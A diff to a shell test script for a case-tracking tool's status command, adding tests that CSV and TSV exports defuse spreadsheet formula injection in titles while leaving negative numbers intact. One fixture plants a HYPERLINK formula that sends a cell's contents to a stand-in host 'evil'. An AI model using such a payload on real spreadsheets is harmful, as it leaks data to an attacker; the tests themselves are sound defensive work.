@@ -13,7 +13,7 @@ same() { # same FILE-GOT FILE-WANT DESC
 }
 st() { CASEFILE_TODAY=2026-11-24 NO_COLOR=1 "$CASEFILE" -C "$repo" status "$@"; }
 
-echo "1..24"
+echo "1..28"
 
 st >"$tmp/out.txt" 2>"$tmp/err"
 check $? "status exits 0"
@@ -55,6 +55,35 @@ check $? "csv parses with python's csv module, with the right values"
 
 st --format tsv | python3 -c "import csv,sys; r=list(csv.reader(sys.stdin, delimiter='\t')); assert len(r)==8 and len(set(map(len,r)))==1, r"
 check $? "tsv parses, every row with the same columns"
+
+# A spreadsheet runs a cell that begins with =, +, -, @ (or a tab or line break) as a formula:
+# the business office opens the CSV in Excel, and a title is typed by any reviewer.  Such a
+# cell is written with a leading ' so that it shows as text; RFC 4180 quoting still holds.  A
+# plain negative number stays a number.  (Status writes its day counts unsigned, overdue_by
+# beside working_days_left, so a free-text field carries the "-3" here.)
+inj=$tmp/inj
+mkdir -p "$inj" && cp -R "$repo/." "$inj" &&
+	sed -i "s|^title: Child J\$|title: '=HYPERLINK(\"http://evil/?\"\&A1,\"x\")'|" "$inj/cases/2026-009/case.yaml" &&
+	sed -i "s|^title: Child D\$|title: '-3'|" "$inj/cases/2026-004/case.yaml" &&
+	grep -qF "title: '=HYPERLINK(\"http://evil/?\"&A1,\"x\")'" "$inj/cases/2026-009/case.yaml" &&
+	grep -qF "title: '-3'" "$inj/cases/2026-004/case.yaml" || bail "cannot make the repository with formula titles"
+sti() { CASEFILE_TODAY=2026-11-24 NO_COLOR=1 "$CASEFILE" -C "$inj" status "$@"; }
+sti --format csv >"$tmp/inj.csv"
+grep -qF "2026-009,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",referral," "$tmp/inj.csv" &&
+	python3 - "$tmp/inj.csv" <<'PY'
+import csv, sys
+rows = {r['case']: r for r in csv.DictReader(open(sys.argv[1], newline=''))}
+assert rows['2026-009']['title'] == '\'=HYPERLINK("http://evil/?"&A1,"x")', rows['2026-009']
+assert rows['2025-011']['overdue_by'] == '145' and rows['2026-011']['working_days_left'] == '7'
+PY
+check $? "csv: a title beginning with = is written '=..., quoted by RFC 4180" || show "$tmp/inj.csv"
+grep -q '^2026-004,-3,notification,' "$tmp/inj.csv"
+check $? "csv: a negative number is left as a number" || show "$tmp/inj.csv"
+sti --format tsv >"$tmp/inj.tsv"
+grep -qF "$(printf '2026-009\t%s\treferral\t' "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")")" "$tmp/inj.tsv"
+check $? "tsv: a title beginning with = is written '=..." || show "$tmp/inj.tsv"
+grep -qF "$(printf '2026-004\t-3\tnotification\t')" "$tmp/inj.tsv"
+check $? "tsv: a negative number is left as a number" || show "$tmp/inj.tsv"
 
 st --format json >"$tmp/s.json"
 python3 -m json.tool "$tmp/s.json" >/dev/null
